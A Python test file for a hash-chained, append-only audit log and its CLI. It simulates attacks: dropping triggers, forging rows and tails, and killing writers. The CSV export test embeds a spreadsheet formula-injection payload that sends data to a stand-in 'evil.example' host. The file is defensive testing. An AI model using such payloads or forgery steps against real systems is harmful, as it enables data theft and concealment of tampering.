import csv
import itertools
import random
import signal
import sqlite3
import subprocess
import sys
import time

import pytest
from typer.testing import CliRunner

from hub_kernel.safety.audit import AuditError, AuditLog


@pytest.fixture
def log(tmp_path):
    log = AuditLog(tmp_path / "audit.db")
    for i in range(5):
        log.record(agent="ab_gate" if i % 2 else "retrain_policy", action=f"act {i}",
                   explanation=f"because {i}", mode="supervised",
                   observation={"i": i}, propensity=1.0)
    return log


def raw(log):
    """What an attacker with file access can do: drop the triggers, then edit."""
    db = sqlite3.connect(log.path, isolation_level=None)
    db.execute("DROP TRIGGER audit_no_update")
    db.execute("DROP TRIGGER audit_no_delete")
    return db


def test_rows_are_chained_filtered_and_verified(log):
    rows = log.entries()
    assert [r.id for r in rows] == [1, 2, 3, 4, 5]
    assert rows[0].prev_hash == "0" * 64
    assert all(b.prev_hash == a.hash for a, b in itertools.pairwise(rows))
    assert [r.action for r in log.entries(agent="ab_gate")] == ["act 1", "act 3"]
    assert [r.id for r in log.entries(limit=2)] == [4, 5]
    assert log.verify().ok and log.verify().n_rows == 5


def test_the_log_is_append_only(log):
    db = sqlite3.connect(log.path)
    with pytest.raises(sqlite3.IntegrityError, match="append-only"):
        db.execute("UPDATE audit SET explanation = 'nothing to see' WHERE id = 2")
    with pytest.raises(sqlite3.IntegrityError, match="append-only"):
        db.execute("DELETE FROM audit WHERE id = 2")


@pytest.mark.parametrize(
    ("tamper", "found"),
    [
        ("UPDATE audit SET explanation = 'nothing to see' WHERE id = 3", "row 3 was changed"),
        ("UPDATE audit SET approved_by = 'ceo' WHERE id = 5", "row 5 was changed"),
        ("DELETE FROM audit WHERE id = 2", "row 2 is missing"),
    ],
)
def test_tampering_is_detected(log, tamper, found):
    raw(log).execute(tamper)
    result = log.verify()
    assert not result.ok and found in result.reason


def test_rewriting_a_row_with_its_own_hash_still_breaks_the_chain(log):
    from hub_kernel.safety.audit import _digest

    db = raw(log)
    db.row_factory = sqlite3.Row
    row = dict(db.execute("SELECT * FROM audit WHERE id = 2").fetchone())
    row["explanation"] = "forged"
    row["hash"] = _digest(row)  # the forger recomputes the row's own hash
    db.execute("UPDATE audit SET explanation = ?, hash = ? WHERE id = 2",
               (row["explanation"], row["hash"]))
    result = log.verify()
    assert not result.ok and "row 3 does not follow row 2" in result.reason


WRITER = """
import sys
from hub_kernel.safety.audit import AuditLog
log = AuditLog(sys.argv[1])
for i in range(1_000_000):
    log.record(agent="loop", action=f"a{i}", explanation="x" * 200)
"""


def test_killing_the_writer_repeatedly_leaves_a_readable_verified_log(tmp_path):
    path = tmp_path / "audit.db"
    rng = random.Random(8)
    seen = 0
    for round_ in range(5):
        writer = subprocess.Popen([sys.executable, "-c", WRITER, str(path)])
        try:
            deadline = time.monotonic() + 30
            while time.monotonic() < deadline:  # verified while it writes, until it has written
                live = AuditLog(path).verify()
                assert live.ok, live.reason
                if live.n_rows > seen:
                    break
                time.sleep(0.005)
            time.sleep(rng.uniform(0, 0.05))  # then die anywhere in a write
        finally:
            writer.send_signal(signal.SIGKILL)
            writer.wait(10)
        log = AuditLog(path)
        rows = log.entries()
        result = log.verify()
        assert result.ok, result.reason
        assert len(rows) > seen  # only grows
        assert result.anchor_id is not None and result.anchor_id >= len(rows) - 1
        log.record(agent="after", action=f"resume {round_}", explanation="still writable")
        result = log.verify()
        assert result.ok and result.n_rows == len(rows) + 1 == result.anchor_id
        seen = result.n_rows
    assert len(AuditLog(path).entries(agent="loop")) >= 5


def test_killed_between_commit_and_anchor_still_verifies(log):
    code = (
        "import os, signal, sys\nfrom hub_kernel.safety.audit import AuditLog\n"
        "AuditLog._write_anchor = lambda *a: os.kill(os.getpid(), signal.SIGKILL)\n"
        "AuditLog(sys.argv[1]).record(agent='doomed', action='last', explanation='no anchor')\n"
    )
    done = subprocess.run([sys.executable, "-c", code, str(log.path)], timeout=60)
    assert done.returncode == -signal.SIGKILL
    assert log.entries()[-1].action == "last"  # committed...
    result = log.verify()
    assert result.ok and result.n_rows == 6 and result.anchor_id == 5  # ...the anchor trails
    log.record(agent="after", action="resume", explanation="catches up")
    assert log.verify().anchor_id == 7 and log.verify().ok


@pytest.mark.parametrize(("keep", "found"), [(3, "rows after id 3 were removed"),
                                             (0, "rows after id 0 were removed")])
def test_removing_the_newest_rows_is_detected(log, keep, found):
    raw(log).execute(f"DELETE FROM audit WHERE id > {keep}")
    result = log.verify()
    assert not result.ok and found in result.reason and result.first_bad_id == keep + 1
    assert "the anchor records row 5" in result.reason


def test_removing_the_whole_database_is_detected(log):
    for suffix in ("", "-wal", "-shm"):
        log.path.with_name(log.path.name + suffix).unlink(missing_ok=True)
    result = log.verify()
    assert not result.ok and "rows after id 0 were removed" in result.reason


def test_rewriting_the_tail_with_a_valid_chain_is_detected(log):
    from hub_kernel.safety.audit import _digest

    db = raw(log)
    db.row_factory = sqlite3.Row
    db.execute("DELETE FROM audit WHERE id = 5")
    previous = db.execute("SELECT hash FROM audit WHERE id = 4").fetchone()["hash"]
    for row_id in (5, 6):  # a forged, well-chained tail, longer than the real one
        row = {"id": row_id, "time": "2026-01-01T00:00:00+00:00", "agent": "forger",
               "mode": None, "observation_digest": None, "action": "nothing happened",
               "propensity": None, "expected_reward": None, "explanation": "forged",
               "approved_by": None, "outcome_reward": None, "ref": None, "prev_hash": previous}
        row["hash"] = previous = _digest(row)
        db.execute(f"INSERT INTO audit ({', '.join(row)}) VALUES ({', '.join('?' * len(row))})",
                   list(row.values()))
    result = log.verify()
    assert not result.ok and "row 5 does not match the anchor" in result.reason


def test_a_missing_or_damaged_anchor(log):
    log.anchor_path.unlink()
    result = log.verify()
    assert result.ok and "no anchor file" in result.reason  # an old log: say so, still ok
    log.record(agent="a", action="b", explanation="c")
    assert log.verify().anchor_id == 6 and log.verify().reason == ""
    log.anchor_path.write_text("{not json")
    result = log.verify()
    assert not result.ok and "is not an anchor" in result.reason


def test_unwritable_location_is_an_audit_error(tmp_path):
    blocker = tmp_path / "file"
    blocker.write_text("")
    with pytest.raises(AuditError, match="cannot be opened"):
        AuditLog(blocker / "audit.db").record(agent="a", action="b", explanation="c")


def test_cli_lists_filters_exports_and_verifies(hub_home, tmp_path):
    from hub_kernel.cli import app

    log = AuditLog()
    log.record(agent="ab_gate", action="promoted m v2", explanation="better, p<0.001",
               mode="supervised")
    log.record(agent="person", action="rollback m v2 -> v1", explanation="checked by hand",
               approved_by="ana")
    runner = CliRunner()
    out = runner.invoke(app, ["audit", "--agent", "person"]).output
    assert "rollback m" in out and "ana" in out and "promoted" not in out
    exported = tmp_path / "audit.csv"
    assert runner.invoke(app, ["audit", "--csv", str(exported)]).exit_code == 0
    assert [r["agent"] for r in csv.DictReader(exported.open())] == ["ab_gate", "person"]
    ok = runner.invoke(app, ["audit", "verify"])
    assert ok.exit_code == 0 and "2 rows" in ok.output
    raw(log).execute("UPDATE audit SET approved_by = 'mallory' WHERE id = 2")
    bad = runner.invoke(app, ["audit", "verify"])
    assert bad.exit_code == 1 and "row 2 was changed" in bad.output


def test_csv_export_neutralises_formulas_and_keeps_numbers(hub_home, tmp_path):
    # an explanation or action is free text (a model or dataset name, a reason typed by a user):
    # opened in a spreadsheet, "=HYPERLINK(...)" would run, so it is exported as text
    from hub_kernel.cli import app

    attack = '=HYPERLINK("https://evil.example/?d="&A1,"click")'
    log = AuditLog()
    log.record(agent="person", action="@SUM(1+1)", explanation=attack, approved_by="+cmd",
               expected_reward=-0.5, outcome_reward=3.0, propensity=0.25)
    log.record(agent="person", action="-2+3", explanation="\t=1+1", mode="\r=1")
    exported = tmp_path / "audit.csv"
    assert runner_invoke(app, "audit", "--csv", str(exported)).exit_code == 0
    first, second = csv.DictReader(exported.open(newline="", encoding="utf-8"))
    assert first["explanation"] == "'" + attack
    assert first["action"] == "'@SUM(1+1)" and first["approved_by"] == "'+cmd"
    assert first["expected_reward"] == "-0.5" and float(first["expected_reward"]) == -0.5
    assert first["outcome_reward"] == "3.0" and first["propensity"] == "0.25"
    assert second["action"] == "'-2+3"
    assert second["explanation"] == "'\t=1+1" and second["mode"] == "'\r=1"
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r"))
                   for row in (first, second) for cell in row.values())
    # the log itself keeps what was recorded, and still verifies
    assert log.entries()[0].explanation == attack and log.verify().ok


def test_csv_export_to_an_unwritable_path_is_an_audit_error(log, tmp_path):
    with pytest.raises(AuditError, match="cannot write the audit export"):
        log.export_csv(tmp_path / "no-such-folder" / "audit.csv")


def runner_invoke(app, *args):
    return CliRunner().invoke(app, list(args))


def test_cli_verify_names_a_truncation(hub_home):
    from hub_kernel.cli import app

    log = AuditLog()
    for i in range(3):
        log.record(agent="ab_gate", action=f"promoted m v{i}", explanation="better")
    raw(log).execute("DELETE FROM audit WHERE id > 1")
    bad = CliRunner().invoke(app, ["audit", "verify"])
    assert bad.exit_code == 1 and "rows after id 1 were removed" in bad.output


def test_integer_propensities_still_verify(tmp_path):
    log = AuditLog(tmp_path / "audit.db")
    log.record(agent="design", action="apply", explanation="int values", propensity=1,
               expected_reward=0, outcome_reward=1)
    assert log.verify().ok


def test_several_decisions_are_one_transaction_and_the_chain_verifies(log):
    entries = log.record_many([
        {"agent": "strategy", "action": f"show:{n} for ann/d", "explanation": n,
         "propensity": 1, "observation": {"analysis": n}} for n in ("summary", "trend")])
    assert entries[1].id == entries[0].id + 1 and entries[0].propensity == 1.0
    assert [e.action for e in log.entries()[-2:]] == ["show:summary for ann/d",
                                                      "show:trend for ann/d"]
    assert log.verify().ok and log.anchor()[0] == entries[1].id
    assert log.record_many([]) == []
